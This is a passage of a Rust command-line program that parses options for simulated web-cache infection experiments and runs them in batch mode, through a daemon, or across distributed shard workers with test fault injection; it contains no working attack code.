                          repeatable); default: the paper's eleven. Extension
                          experiments (campaign_fleet, attack_surface) run
                          only when named here
    --seed <n>            RNG seed for populations and races [default: 2021]
    --scale <n>           Table I cache-size divisor [default: 1000]
    --sites <n>           Figure 5 population size [default: 15000]
    --crawl-sites <n>     Figure 3 population size [default: 3000]
    --days <n>            Figure 3 crawl length in days [default: 100]
    --event-budget <n>    per-simulation event budget [default: 5000000]
    --trace-mode <mode>   packet-trace recorder: full, summary or ring:<n>
                          [default: full]
    --jitter-us <n>       max per-packet WiFi jitter for the campaign fleet,
                          in microseconds [default: 0]
    --fleet-clients <n>   campaign_fleet: total simulated clients [default: 100000]
    --fleet-aps <n>       campaign_fleet: number of cafe APs [default: 128]
    --fleet-shards <n>    campaign_fleet: seed-sweep shards the fleet is split
                          across (merged into one artifact) [default: 1]
    --fleet-jobs <n>      campaign_fleet: worker threads for the per-AP sims
                          (0 = auto-size to the machine) [default: 0]
    --fleet-days <n>      campaign_fleet: simulated days; above 1 the fleet
                          runs the multi-day churn loop (arrivals/departures,
                          cache clears, Figure 3 target-object rotation, with
                          infections carried forward) [default: 1]
    --fleet-churn <f>     campaign_fleet: daily client-turnover fraction in
                          [0, 1] for the multi-day loop [default: 0]
    --fleet-hetero        campaign_fleet: draw per-AP latency/jitter/attacker
                          reaction and client weights from seeded
                          distributions instead of the uniform paper timing
    --fleet-visit-prob <f>
                          campaign_fleet: mean daily probability that a seat
                          visits its cafe during a multi-day campaign, in
                          (0, 1]; per-seat probabilities are drawn from a
                          seeded triangular distribution around it. 1 keeps
                          the classic everyone-visits model [default: 1]
    --fleet-checkpoint <path>
                          write a resumable JSON checkpoint after every
                          completed campaign day; if <path> exists the
                          campaign resumes from it (byte-identical to an
                          uninterrupted run). Requires exactly
                          --only campaign_fleet and --fleet-days >= 2
    --global-event-budget <n>
                          one event pool shared by every simulator of the run
                          (all APs, shards and days); 0 disables [default: 0]
    --surface-vectors <names>
                          attack_surface: comma-separated attack vectors to
                          sweep (race_vs_hsts, race_vs_csp, persist_vs_sri,
                          propagate_vs_partitioning) [default: all]
    --surface-delays <start:end:steps>
                          attack_surface: master reaction-delay axis in
                          microseconds [default: 300:160000:8]
    --surface-adoption <steps>
                          attack_surface: number of defense-adoption points
                          over [0, 1] [default: 5]
    --surface-wan <start:end:steps>
                          attack_surface: WAN one-way server latency axis in
                          microseconds (the paper's fixed point is 40000);
                          every (vector, delay, wan, adoption) cell gets its
                          own collision-free seed [default: 40000:40000:1]
    --surface-trials <n>  attack_surface: seeded race trials per grid cell
                          [default: 200]

    Flags that configure an extension experiment are rejected when that
    experiment is not selected via --only, instead of being silently inert.
    --jobs <n>            worker threads for independent experiments [default: 1]
    --json                emit one structured JSON document instead of text
    --list                list the experiment ids and titles, then exit
    -h, --help            print this help
";

struct Options {
    ids: Vec<ExperimentId>,
    config: RunConfig,
    jobs: usize,
    json: bool,
    checkpoint: Option<PathBuf>,
}

fn parse_args(args: &[String]) -> Result<Option<Options>, String> {
    let mut ids: Vec<ExperimentId> = Vec::new();
    let mut config = RunConfig::default();
    let mut jobs = 1usize;
    let mut json = false;
    let mut checkpoint: Option<PathBuf> = None;
    // Flags that configure only an extension experiment, recorded when
    // explicitly passed so inert combinations can be rejected after the id
    // set is known.
    let mut fleet_only_flags: Vec<&'static str> = Vec::new();
    let mut shared_extension_flags: Vec<&'static str> = Vec::new();
    let mut surface_only_flags: Vec<&'static str> = Vec::new();
    let mut churn_set = false;
    let mut visit_prob_set = false;

    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        let mut value_for = |flag: &str| {
            iter.next()
                .cloned()
                .ok_or_else(|| format!("{flag} requires a value"))
        };
        match arg.as_str() {
            "--only" => {
                for part in value_for("--only")?.split(',') {
                    let id = part
                        .parse::<ExperimentId>()
                        .map_err(|error| error.to_string())?;
                    if !ids.contains(&id) {
                        ids.push(id);
                    }
                }
            }
            "--seed" => config.seed = parse_number(&value_for("--seed")?, "--seed")?,
            "--scale" => config.scale = parse_number(&value_for("--scale")?, "--scale")?,
            "--sites" => {
                config.sites = usize::try_from(parse_number(&value_for("--sites")?, "--sites")?)
                    .map_err(|_| "--sites is out of range".to_string())?;
            }
            "--crawl-sites" => {
                config.crawl_sites =
                    usize::try_from(parse_number(&value_for("--crawl-sites")?, "--crawl-sites")?)
                        .map_err(|_| "--crawl-sites is out of range".to_string())?;
            }
            "--days" => {
                config.days = u32::try_from(parse_number(&value_for("--days")?, "--days")?)
                    .map_err(|_| format!("--days is out of range (max {})", u32::MAX))?;
            }
            "--event-budget" => {
                config.event_budget = parse_number(&value_for("--event-budget")?, "--event-budget")?;
                if config.event_budget == 0 {
                    return Err("--event-budget must be at least 1".to_string());
                }
            }
            "--trace-mode" => {
                config.trace_mode = value_for("--trace-mode")?
                    .parse()
                    .map_err(|error: mp_netsim::capture::ParseTraceModeError| error.to_string())?;
            }
            "--jitter-us" => {
                config.jitter_us = parse_number(&value_for("--jitter-us")?, "--jitter-us")?;
                shared_extension_flags.push("--jitter-us");
            }
            "--fleet-clients" => {
                config.fleet_clients =
                    usize::try_from(parse_number(&value_for("--fleet-clients")?, "--fleet-clients")?)
                        .map_err(|_| "--fleet-clients is out of range".to_string())?;
                fleet_only_flags.push("--fleet-clients");
            }
            "--fleet-aps" => {
                config.fleet_aps =
                    usize::try_from(parse_number(&value_for("--fleet-aps")?, "--fleet-aps")?)
                        .map_err(|_| "--fleet-aps is out of range".to_string())?;
                if config.fleet_aps == 0 {
                    return Err("--fleet-aps must be at least 1".to_string());
                }
                fleet_only_flags.push("--fleet-aps");
            }
            "--fleet-shards" => {
                config.fleet_shards =
                    usize::try_from(parse_number(&value_for("--fleet-shards")?, "--fleet-shards")?)
                        .map_err(|_| "--fleet-shards is out of range".to_string())?;
                if config.fleet_shards == 0 {
                    return Err("--fleet-shards must be at least 1".to_string());
                }
                fleet_only_flags.push("--fleet-shards");
            }
            "--fleet-jobs" => {
                config.fleet_jobs =
                    usize::try_from(parse_number(&value_for("--fleet-jobs")?, "--fleet-jobs")?)
                        .map_err(|_| "--fleet-jobs is out of range".to_string())?;
                shared_extension_flags.push("--fleet-jobs");
            }
            "--fleet-days" => {
                config.fleet_days =
                    u32::try_from(parse_number(&value_for("--fleet-days")?, "--fleet-days")?)
                        .map_err(|_| "--fleet-days is out of range".to_string())?;
                if config.fleet_days == 0 {
                    return Err("--fleet-days must be at least 1".to_string());
                }
                fleet_only_flags.push("--fleet-days");
            }
            "--fleet-churn" => {
                let text = value_for("--fleet-churn")?;
                config.fleet_churn = text
                    .parse::<f64>()
                    .map_err(|_| format!("--fleet-churn: expected a fraction, got {text:?}"))?;
                if !(0.0..=1.0).contains(&config.fleet_churn) {
                    return Err("--fleet-churn must be in [0, 1]".to_string());
                }
                shared_extension_flags.push("--fleet-churn");
                churn_set = true;
            }
            "--fleet-hetero" => {
                config.fleet_hetero = true;
                fleet_only_flags.push("--fleet-hetero");
            }
            "--fleet-visit-prob" => {
                let text = value_for("--fleet-visit-prob")?;
                config.fleet_visit_prob = text.parse::<f64>().map_err(|_| {
                    format!("--fleet-visit-prob: expected a probability, got {text:?}")
                })?;
                if !(0.0..=1.0).contains(&config.fleet_visit_prob)
                    || config.fleet_visit_prob == 0.0
                {
                    return Err("--fleet-visit-prob must be in (0, 1]".to_string());
                }
                fleet_only_flags.push("--fleet-visit-prob");
                visit_prob_set = true;
            }
            "--fleet-checkpoint" => {
                checkpoint = Some(PathBuf::from(value_for("--fleet-checkpoint")?));
            }
            "--global-event-budget" => {
                config.global_event_budget =
                    parse_number(&value_for("--global-event-budget")?, "--global-event-budget")?;
            }
            "--surface-vectors" => {
                config.surface_vectors = SurfaceVector::parse_mask(&value_for("--surface-vectors")?)
                    .map_err(|error| format!("--surface-vectors: {error}"))?;
                surface_only_flags.push("--surface-vectors");
            }
            "--surface-delays" => {
                let text = value_for("--surface-delays")?;
                let parts: Vec<&str> = text.split(':').collect();
                let [start, end, steps] = parts.as_slice() else {
                    return Err(format!(
                        "--surface-delays: expected <start:end:steps>, got {text:?}"
                    ));
                };
                config.surface_delay_start_us = parse_number(start, "--surface-delays")?;
                config.surface_delay_end_us = parse_number(end, "--surface-delays")?;
                config.surface_delay_steps =
                    usize::try_from(parse_number(steps, "--surface-delays")?)
                        .map_err(|_| "--surface-delays: steps out of range".to_string())?;
                if config.surface_delay_steps == 0 {
                    return Err("--surface-delays: steps must be at least 1".to_string());
                }
                if config.surface_delay_start_us > config.surface_delay_end_us {
                    return Err(format!(
                        "--surface-delays: range is inverted: [{}, {}]",
                        config.surface_delay_start_us, config.surface_delay_end_us
                    ));
                }
                surface_only_flags.push("--surface-delays");
            }
            "--surface-adoption" => {
                config.surface_adoption_steps =
                    usize::try_from(parse_number(&value_for("--surface-adoption")?, "--surface-adoption")?)
                        .map_err(|_| "--surface-adoption is out of range".to_string())?;
                if config.surface_adoption_steps == 0 {
                    return Err("--surface-adoption must be at least 1".to_string());
                }
                surface_only_flags.push("--surface-adoption");
            }
            "--surface-wan" => {
                let text = value_for("--surface-wan")?;
                let parts: Vec<&str> = text.split(':').collect();
                let [start, end, steps] = parts.as_slice() else {
                    return Err(format!(
                        "--surface-wan: expected <start:end:steps>, got {text:?}"
                    ));
                };
                config.surface_wan_start_us = parse_number(start, "--surface-wan")?;
                config.surface_wan_end_us = parse_number(end, "--surface-wan")?;
                config.surface_wan_steps = usize::try_from(parse_number(steps, "--surface-wan")?)
                    .map_err(|_| "--surface-wan: steps out of range".to_string())?;
                if config.surface_wan_steps == 0 {
                    return Err("--surface-wan: steps must be at least 1".to_string());
                }
                if config.surface_wan_start_us > config.surface_wan_end_us {
                    return Err(format!(
                        "--surface-wan: range is inverted: [{}, {}]",
                        config.surface_wan_start_us, config.surface_wan_end_us
                    ));
                }
                surface_only_flags.push("--surface-wan");
            }
            "--surface-trials" => {
                config.surface_trials =
                    usize::try_from(parse_number(&value_for("--surface-trials")?, "--surface-trials")?)
                        .map_err(|_| "--surface-trials is out of range".to_string())?;
                if config.surface_trials == 0 {
                    return Err("--surface-trials must be at least 1".to_string());
                }
                surface_only_flags.push("--surface-trials");
            }
            "--jobs" => {
                jobs = parse_number(&value_for("--jobs")?, "--jobs")? as usize;
                if jobs == 0 {
                    return Err("--jobs must be at least 1".to_string());
                }
            }
            "--json" => json = true,
            "--list" => {
                for id in ExperimentId::EXTENDED {
                    println!("{:<14} {}", id.to_string(), id.title());
                }
                return Ok(None);
            }
            "-h" | "--help" => {
                print!("{USAGE}");
                return Ok(None);
            }
            "--socket" | "--tcp" | "--serve-workers" | "--serve-queue-limit" => {
                return Err(format!(
                    "{arg} configures the service daemon; use a subcommand: \
                     paper-report serve|submit|status|watch|cancel|shutdown \
                     --socket <path>"
                ));
            }
            "--workers" | "--worker-cmd" | "--journal" | "--shard-timeout" | "--retry-limit" => {
                return Err(format!(
                    "{arg} splits a campaign across worker processes; use the \
                     distribute subcommand: paper-report distribute \
                     --workers <n> --only campaign_fleet --fleet-days <n>"
                ));
            }
            "--watch" | "--run" => {
                return Err(format!(
                    "{arg} is a service client flag; use it with a subcommand, \
                     e.g. paper-report watch --socket <path> --run <n>"
                ));
            }
            other => return Err(format!("unknown argument {other:?}")),
        }
    }

    // The registry's order, regardless of the order the ids were given in.
    // Without --only, exactly the paper's eleven run (extensions are opt-in),
    // so the default report stays stable.
    let ids = if ids.is_empty() {
        ExperimentId::ALL.to_vec()
    } else {
        ExperimentId::EXTENDED.into_iter().filter(|id| ids.contains(id)).collect::<Vec<_>>()
    };
    // Reject inert flag combinations: a flag that configures an extension
    // experiment does nothing unless that experiment is selected, and
    // silently ignoring it would mask typos and misread sweeps.
    let campaign = ids.contains(&ExperimentId::CampaignFleet);
    let surface = ids.contains(&ExperimentId::AttackSurface);
    if let Some(flag) = fleet_only_flags.first().filter(|_| !campaign) {
        return Err(format!(
            "{flag} configures the campaign_fleet experiment, which is not \
             selected; add --only campaign_fleet"
        ));
    }
    if let Some(flag) = shared_extension_flags.first().filter(|_| !campaign && !surface) {
        return Err(format!(
            "{flag} configures the campaign_fleet / attack_surface \
             experiments, none of which is selected; add them to --only"
        ));
    }
    if let Some(flag) = surface_only_flags.first().filter(|_| !surface) {
        return Err(format!(
            "{flag} configures the attack_surface experiment, which is not \
             selected; add --only attack_surface"
        ));
    }
    if churn_set && !surface && config.fleet_days < 2 {
        return Err(
            "--fleet-churn only affects a multi-day campaign; set \
             --fleet-days to 2 or more (or select attack_surface, whose \
             steady-state curve uses the churn rate)"
                .to_string(),
        );
    }
    if visit_prob_set && config.fleet_days < 2 {
        return Err(
            "--fleet-visit-prob only affects a multi-day campaign; set \
             --fleet-days to 2 or more"
                .to_string(),
        );
    }
    if checkpoint.is_some() {
        // A checkpointed campaign is a dedicated operation: it must not
        // silently switch a single-snapshot run onto the churn model, and it
        // must not run beside a batch sweep (which would get its own global
        // budget pool).
        if ids != [ExperimentId::CampaignFleet] {
            return Err(
                "--fleet-checkpoint runs the campaign alone; use exactly \
                 --only campaign_fleet"
                    .to_string(),
            );
        }
        if config.fleet_days < 2 {
            return Err(
                "--fleet-checkpoint requires a multi-day campaign; \
                 set --fleet-days to 2 or more"
                    .to_string(),
            );
        }
    }
    Ok(Some(Options { ids, config, jobs, json, checkpoint }))
}

fn parse_number(text: &str, flag: &str) -> Result<u64, String> {
    text.parse::<u64>()
        .map_err(|_| format!("{flag}: expected a non-negative integer, got {text:?}"))
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    // Service mode: a leading subcommand word routes to the daemon / client
    // paths; everything else is the classic batch report.
    match args.first().map(String::as_str) {
        Some("distribute") => return distribute::run(&args[1..]),
        Some("shard-worker") => return distribute::worker(&args[1..]),
        Some("serve") => return service::serve(&args[1..]),
        Some("submit") => return service::submit(&args[1..]),
        Some("status") => return service::status(&args[1..]),
        Some("watch") => return service::watch(&args[1..]),
        Some("cancel") => return service::cancel(&args[1..]),
        Some("shutdown") => return service::shutdown(&args[1..]),
        Some("lint") => return lint_cmd::run(&args[1..]),
        _ => {}
    }
    batch(&args)
}

fn batch(args: &[String]) -> ExitCode {
    let options = match parse_args(args) {
        Ok(Some(options)) => options,
        Ok(None) => return ExitCode::SUCCESS,
        Err(message) => {
            eprintln!("error: {message}\n");
            eprint!("{USAGE}");
            return ExitCode::from(2);
        }
    };

    // With a checkpoint path, the (sole, validated by parse_args) campaign
    // fleet id runs through the checkpointing entry point (write-per-day +
    // resume) instead of the batch runner.
    let (result_ids, results) = if let Some(path) = options.checkpoint.as_deref() {
        let result = run_campaign_with_checkpoint(&options.config, path).map(|result| Artifact {
            id: ExperimentId::CampaignFleet,
            config: options.config,
            data: ArtifactData::CampaignFleet(result),
        });
        (vec![ExperimentId::CampaignFleet], vec![result])
    } else {
        (
            options.ids.clone(),
            try_run_selected(&options.ids, &options.config, options.jobs),
        )
    };
    let mut artifacts = Vec::new();
    let mut failed = false;
    for (id, result) in result_ids.iter().zip(results) {
        match result {
            Ok(artifact) => artifacts.push(artifact),
            Err(error) => {
                // One runaway experiment reports its error and the rest of
                // the report still prints.
                eprintln!("error: experiment {id} failed: {error}");
                failed = true;
            }
        }
    }
    if options.json {
        println!("{}", report_json(&options.config, &artifacts));
    } else {
        println!("{}", render_report(&artifacts));
    }
    if failed {
        ExitCode::FAILURE
    } else {
        ExitCode::SUCCESS
    }
}

/// The service-mode subcommands: `serve` runs the daemon in the foreground;
/// `submit`/`status`/`watch`/`cancel`/`shutdown` are protocol clients. With
/// `--json` the clients print the daemon's response lines verbatim, so shell
/// pipelines (and the CI smoke job) consume the raw protocol.
mod service {
    use super::*;

    /// Flags shared by every subcommand, plus the leftover (batch
    /// configuration) arguments that `submit` forwards to `parse_args`.
    struct ServiceArgs {
        socket: Option<PathBuf>,
        tcp: Option<String>,
        run: Option<u64>,
        watch: bool,
        json: bool,
        workers: usize,
        queue_limit: usize,
        rest: Vec<String>,
    }

    fn parse_service(args: &[String]) -> Result<ServiceArgs, String> {
        let mut parsed = ServiceArgs {
            socket: None,
            tcp: None,
            run: None,
            watch: false,
            json: false,
            workers: 2,
            queue_limit: 0,
            rest: Vec::new(),
        };
        let mut iter = args.iter();
        while let Some(arg) = iter.next() {
            let mut value_for = |flag: &str| {
                iter.next()
                    .cloned()
                    .ok_or_else(|| format!("{flag} requires a value"))
            };
            match arg.as_str() {
                "--socket" => parsed.socket = Some(PathBuf::from(value_for("--socket")?)),
                "--tcp" => parsed.tcp = Some(value_for("--tcp")?),
                "--run" => parsed.run = Some(parse_number(&value_for("--run")?, "--run")?),
                "--watch" => parsed.watch = true,
                "--json" => parsed.json = true,
                "--serve-workers" => {
                    parsed.workers =
                        usize::try_from(parse_number(&value_for("--serve-workers")?, "--serve-workers")?)
                            .map_err(|_| "--serve-workers is out of range".to_string())?;
                    if parsed.workers == 0 {
                        return Err("--serve-workers must be at least 1".to_string());
                    }
                }
                "--serve-queue-limit" => {
                    parsed.queue_limit = usize::try_from(parse_number(
                        &value_for("--serve-queue-limit")?,
                        "--serve-queue-limit",
                    )?)
                    .map_err(|_| "--serve-queue-limit is out of range".to_string())?;
                }
                other => parsed.rest.push(other.to_string()),
            }
        }
        Ok(parsed)
    }

    /// The endpoint a client subcommand dials: `--tcp` wins, else `--socket`.
    fn endpoint(parsed: &ServiceArgs, command: &str) -> Result<Endpoint, String> {
        match (&parsed.tcp, &parsed.socket) {
            (Some(addr), _) => Ok(Endpoint::Tcp(addr.clone())),
            (None, Some(path)) => Ok(Endpoint::Unix(path.clone())),
            (None, None) => Err(format!(
                "{command} needs the daemon's address; pass --socket <path> \
                 (or --tcp <addr>)"
            )),
        }
    }

    pub(super) fn usage_error(message: &str) -> ExitCode {
        eprintln!("error: {message}\n");
        eprint!("{USAGE}");
        ExitCode::from(2)
    }

    fn connect(endpoint: &Endpoint) -> Result<Client, ExitCode> {
        Client::connect(endpoint).map_err(|error| {
            let (shown, hint) = match endpoint {
                Endpoint::Unix(path) => (
                    path.display().to_string(),
                    format!("paper-report serve --socket {}", path.display()),
                ),
                Endpoint::Tcp(addr) => (
                    addr.clone(),
                    format!("paper-report serve --socket <path> --tcp {addr}"),
                ),
            };
            eprintln!(
                "error: cannot connect to the daemon at {shown}: {error}\n\
                 is the daemon running? start one with: {hint}"
            );
            ExitCode::from(2)
        })
    }

    pub fn serve(args: &[String]) -> ExitCode {
        let parsed = match parse_service(args) {
            Ok(parsed) => parsed,
            Err(message) => return usage_error(&message),
        };
        let Some(socket) = parsed.socket.clone() else {
            return usage_error("serve requires --socket <path>");
        };
        let mut global_event_budget = 0u64;
        // serve accepts one batch flag: the daemon-wide --global-event-budget
        // pool for submissions that do not bring their own.
        let mut iter = parsed.rest.iter();
        while let Some(arg) = iter.next() {
            match arg.as_str() {
                "--global-event-budget" => {
                    let Some(value) = iter.next() else {
                        return usage_error("--global-event-budget requires a value");
                    };
                    global_event_budget = match parse_number(value, "--global-event-budget") {
                        Ok(value) => value,
                        Err(message) => return usage_error(&message),
                    };
                }
                other => {
                    return usage_error(&format!(
                        "unknown serve argument {other:?}; run configuration \
                         belongs to submit, not serve"
                    ));
                }
            }
        }
        let options = ServeOptions {
            socket: socket.clone(),
            tcp: parsed.tcp.clone(),
            workers: parsed.workers,
            global_event_budget,
            queue_limit: parsed.queue_limit,
        };
        let daemon = match Daemon::start(options) {
            Ok(daemon) => daemon,
            Err(error) => {
                eprintln!(
                    "error: cannot start the daemon on {}: {error}\n\
                     (a stale socket from an unclean shutdown is removed \
                     automatically; this path is either a live daemon or \
                     not a socket at all)",
                    socket.display()
                );
                return ExitCode::from(2);
            }
        };
        match daemon.tcp_addr() {
            Some(addr) => eprintln!(
                "campaign service daemon listening on {} and {addr}",
                socket.display()
            ),
            None => eprintln!("campaign service daemon listening on {}", socket.display()),
        }
        match daemon.wait() {
            Ok(()) => ExitCode::SUCCESS,
            Err(error) => {
                eprintln!("error: daemon shutdown failed: {error}");
                ExitCode::FAILURE
            }
        }
    }

    pub fn submit(args: &[String]) -> ExitCode {
        let parsed = match parse_service(args) {
            Ok(parsed) => parsed,
            Err(message) => return usage_error(&message),
        };
        let endpoint = match endpoint(&parsed, "submit") {
            Ok(endpoint) => endpoint,
            Err(message) => return usage_error(&message),
        };
        if parsed.rest.iter().any(|arg| arg == "--jobs") {
            return usage_error(
                "--jobs schedules a batch sweep; the daemon runs one \
                 experiment per submission (tune --serve-workers on serve)",
            );
        }
        let options = match parse_args(&parsed.rest) {
            Ok(Some(options)) => options,
            Ok(None) => return ExitCode::SUCCESS,
            Err(message) => return usage_error(&message),
        };
        let [experiment] = options.ids.as_slice() else {
            return usage_error(
                "submit runs exactly one experiment; pass a single id, e.g. \
                 --only campaign_fleet",
            );
        };
        let mut client = match connect(&endpoint) {
            Ok(client) => client,
            Err(code) => return code,
        };
        let request = Request::Submit {
            experiment: *experiment,
            config: Box::new(options.config),
            checkpoint: options.checkpoint.clone(),
            watch: parsed.watch,
        };
        let json = parsed.json || options.json;
        match client.request(&request) {
            Ok(Response::Accepted { run, experiment }) => {
                if json {
                    println!(
                        "{}",
                        Response::Accepted { run, experiment }.to_json()
                    );
                } else {
                    println!("run {run} accepted ({experiment})");
                }
                if parsed.watch {
                    stream(&mut client, json)
                } else {
                    ExitCode::SUCCESS
                }
            }
            Ok(Response::Error { message, .. }) => {
                eprintln!("error: daemon rejected the submission: {message}");
                ExitCode::FAILURE
            }
            Ok(other) => {
                eprintln!("error: unexpected response: {}", other.to_json());
                ExitCode::FAILURE
            }
            Err(error) => {
                eprintln!("error: {error}");
                ExitCode::FAILURE
            }
        }
    }

    pub fn status(args: &[String]) -> ExitCode {
        with_client(args, "status", |parsed, client| {
            match client.request(&Request::Status { run: parsed.run }) {
                Ok(Response::Status { runs }) => {
                    if parsed.json {
                        println!("{}", Response::Status { runs }.to_json());
                    } else if runs.is_empty() {
                        println!("no runs");
                    } else {
                        println!("{:<6} {:<16} {:<8} {:>5}  outcome", "run", "experiment", "state", "days");
                        for row in runs {
                            println!(
                                "{:<6} {:<16} {:<8} {:>5}  {}",
                                row.run,
                                row.experiment.as_str(),
                                row.state.as_str(),
                                row.days,
                                row.outcome.as_deref().unwrap_or("-")
                            );
                        }
                    }
                    ExitCode::SUCCESS
                }
                Ok(Response::Error { message, .. }) => {
                    eprintln!("error: {message}");
                    ExitCode::FAILURE
                }
                other => unexpected(other),
            }
        })
    }

    pub fn watch(args: &[String]) -> ExitCode {
        with_client(args, "watch", |parsed, client| {
            let Some(run) = parsed.run else {
                return usage_error("watch requires --run <n>");
            };
            match client.send(&Request::Watch { run }) {
                Ok(()) => stream(client, parsed.json),
                Err(error) => {
                    eprintln!("error: {error}");
                    ExitCode::FAILURE
                }
            }
        })
    }

    pub fn cancel(args: &[String]) -> ExitCode {
        with_client(args, "cancel", |parsed, client| {
            let Some(run) = parsed.run else {
                return usage_error("cancel requires --run <n>");
            };
            match client.request(&Request::Cancel { run }) {
                Ok(Response::Cancelling { run }) => {
                    if parsed.json {
                        println!("{}", Response::Cancelling { run }.to_json());
                    } else {
                        println!(
                            "run {run} cancelling (stops at its next day \
                             boundary; any checkpoint stays resumable)"
                        );
                    }
                    ExitCode::SUCCESS
                }
                Ok(Response::Error { message, .. }) => {
                    eprintln!("error: {message}");
                    ExitCode::FAILURE
                }
                other => unexpected(other),
            }
        })
    }

    pub fn shutdown(args: &[String]) -> ExitCode {
        with_client(args, "shutdown", |parsed, client| {
            match client.request(&Request::Shutdown) {
                Ok(Response::ShuttingDown { active_runs }) => {
                    if parsed.json {
                        println!("{}", Response::ShuttingDown { active_runs }.to_json());
                    } else {
                        println!("daemon shutting down ({active_runs} active run(s) cancelled)");
                    }
                    ExitCode::SUCCESS
                }
                Ok(Response::Error { message, .. }) => {
                    eprintln!("error: {message}");
                    ExitCode::FAILURE
                }
                other => unexpected(other),
            }
        })
    }

    /// Parses service flags, rejects stray arguments, connects, and hands
    /// the client to `body` — the shared scaffolding of the pure-client
    /// subcommands.
    fn with_client(
        args: &[String],
        command: &str,
        body: impl FnOnce(&ServiceArgs, &mut Client) -> ExitCode,
    ) -> ExitCode {
        let parsed = match parse_service(args) {
            Ok(parsed) => parsed,
            Err(message) => return usage_error(&message),
        };
        if let Some(stray) = parsed.rest.first() {
            return usage_error(&format!("unknown {command} argument {stray:?}"));
        }
        let endpoint = match endpoint(&parsed, command) {
            Ok(endpoint) => endpoint,
            Err(message) => return usage_error(&message),
        };
        match connect(&endpoint) {
            Ok(mut client) => body(&parsed, &mut client),
            Err(code) => code,
        }
    }

    fn unexpected(response: Result<Response, mp_service::ClientError>) -> ExitCode {
        match response {
            Ok(response) => eprintln!("error: unexpected response: {}", response.to_json()),
            Err(error) => eprintln!("error: {error}"),
        }
        ExitCode::FAILURE
    }

    /// Follows a day/done stream to its end; the process exit code reflects
    /// the run's outcome (`failed` exits 1).
    fn stream(client: &mut Client, json: bool) -> ExitCode {
        loop {
            match client.read_response() {
                Ok(Response::Day { run, stats }) => {
                    if json {
                        println!("{}", Response::Day { run, stats }.to_json());
                    } else {
                        print_day(&stats);
                    }
                }
                Ok(Response::Done { run, outcome }) => {
                    if json {
                        println!("{}", Response::Done { run, outcome: outcome.clone() }.to_json());
                    } else {
                        match &outcome {
                            RunOutcome::Ok { .. } => println!("run {run} done: ok"),
                            RunOutcome::Cancelled { days_completed } => println!(
                                "run {run} cancelled after {days_completed} completed day(s)"
                            ),
                            RunOutcome::Failed { message } => {
                                println!("run {run} failed: {message}")
                            }
                        }
                    }
                    return match outcome {
                        RunOutcome::Failed { .. } => ExitCode::FAILURE,
                        _ => ExitCode::SUCCESS,
                    };
                }
                Ok(Response::Error { message, .. }) => {
                    eprintln!("error: {message}");
                    return ExitCode::FAILURE;
                }
                Ok(other) => return unexpected(Ok(other)),
                Err(error) => {
                    eprintln!("error: {error}");
                    return ExitCode::FAILURE;
                }
            }
        }
    }

    fn print_day(stats: &DayStats) {
        println!(
            "day {:>3}: exposed {:>6}  newly infected {:>6}  infected {:>7}  \
             clean {:>7}  events {}",
            stats.day,
            stats.exposed,
            stats.newly_infected,
            stats.infected,
            stats.clean,
            stats.events
        );
    }
}

/// The distributed-campaign subcommands: `distribute` is the coordinator
/// (split, farm out, merge, report); `shard-worker` is the per-process
/// worker half it spawns. A shard-worker reads one newline-JSON assignment
/// per line from stdin —
/// `{"op": "shard_run", "config": {...}, "first_ap": n, "aps": n}` — and
/// replies on stdout with one `shard_result` (carrying the shard's
/// mergeable partial-checkpoint document) or `error` line, until EOF. The
/// same protocol works unchanged across an ssh transport, which is what
/// `--worker-cmd` exists for.
mod distribute {
    use super::service::usage_error;
    use super::*;
    use parasite::experiments::{
        run_campaign_shard, scan_journal, write_journal_entry, ExperimentError, FaultKind,
        FaultPlan, RunCtx, ShardOutcome, ShardPlan, FAULT_PLAN_ENV,
    };
    use parasite::json::{Json, ToJson};
    use std::collections::VecDeque;
    use std::io::{BufRead, BufReader, Write as _};
    use std::path::Path;
    use std::process::{Child, Command, Stdio};
    use std::sync::{mpsc, Mutex};
    use std::time::{Duration, Instant};

    /// The `shard-worker` loop: serve stdin assignments until EOF. A seeded
    /// `MP_FAULT_PLAN` (see PROTOCOL.md) makes chosen assignments
    /// misbehave on demand — crash before replying, hang, or garble the
    /// reply line — so the coordinator's supervision is testable.
    pub fn worker(args: &[String]) -> ExitCode {
        if let Some(stray) = args.first() {
            return usage_error(&format!("unknown shard-worker argument {stray:?}"));
        }
        let faults = match FaultPlan::from_env() {
            Ok(faults) => faults,
            Err(message) => return usage_error(&format!("{FAULT_PLAN_ENV}: {message}")),
        };
        let stdin = std::io::stdin();
        let mut reader = stdin.lock();
        let mut stdout = std::io::stdout();
        let mut line = String::new();
        loop {
            line.clear();
            match reader.read_line(&mut line) {
                Ok(0) => return ExitCode::SUCCESS,
                Ok(_) => {}
                Err(_) => return ExitCode::FAILURE,
            }
            if line.trim().is_empty() {
                continue;
            }
            let fault = faults.as_ref().and_then(FaultPlan::claim_assignment);
            match fault {
                Some(FaultKind::Crash) => std::process::exit(3),
                Some(FaultKind::Hang) => loop {
                    // Hang forever (until the coordinator's shard timeout
                    // kills this process).
                    std::thread::sleep(Duration::from_secs(3600));
                },
                _ => {}
            }
            let mut reply = serve_assignment(line.trim()).to_string();
            if matches!(fault, Some(FaultKind::Garble) | Some(FaultKind::Torn)) {
                // A torn pipe write and a garbled line look the same to the
                // coordinator: a strict prefix that can never parse whole.
                let mut cut = faults.as_ref().expect("fault implies plan").garble_point(reply.len());
                while !reply.is_char_boundary(cut) {
                    cut -= 1;
                }
                reply.truncate(cut);
            }
            if writeln!(stdout, "{reply}").and_then(|()| stdout.flush()).is_err() {
                return ExitCode::FAILURE;
            }
        }
    }

    /// Serves one assignment line, rendering the reply line.
    fn serve_assignment(line: &str) -> Json {
        match run_assignment(line) {
            Ok((first_ap, aps, outcome)) => Json::obj([
                ("type", "shard_result".to_json()),
                ("first_ap", (first_ap as u64).to_json()),
                ("aps", (aps as u64).to_json()),
                ("outcome", outcome),
            ]),
            Err(message) => {
                Json::obj([("type", "error".to_json()), ("message", message.to_json())])
            }
        }
    }

    fn run_assignment(line: &str) -> Result<(usize, usize, Json), String> {
        let request = Json::parse(line)
            .map_err(|error| format!("assignment line is not valid JSON: {error}"))?;
        match request.get("op").and_then(Json::as_str) {
            Some("shard_run") => {}
            Some(other) => return Err(format!("unknown worker op {other:?}")),
            None => return Err("assignment is missing the \"op\" field".to_string()),
        }
        let config = request
            .get("config")
            .and_then(RunConfig::from_json)
            .ok_or_else(|| "\"config\" is not a run configuration object".to_string())?;
        let field = |key: &str| {
            request
                .get(key)
                .and_then(Json::as_u64)
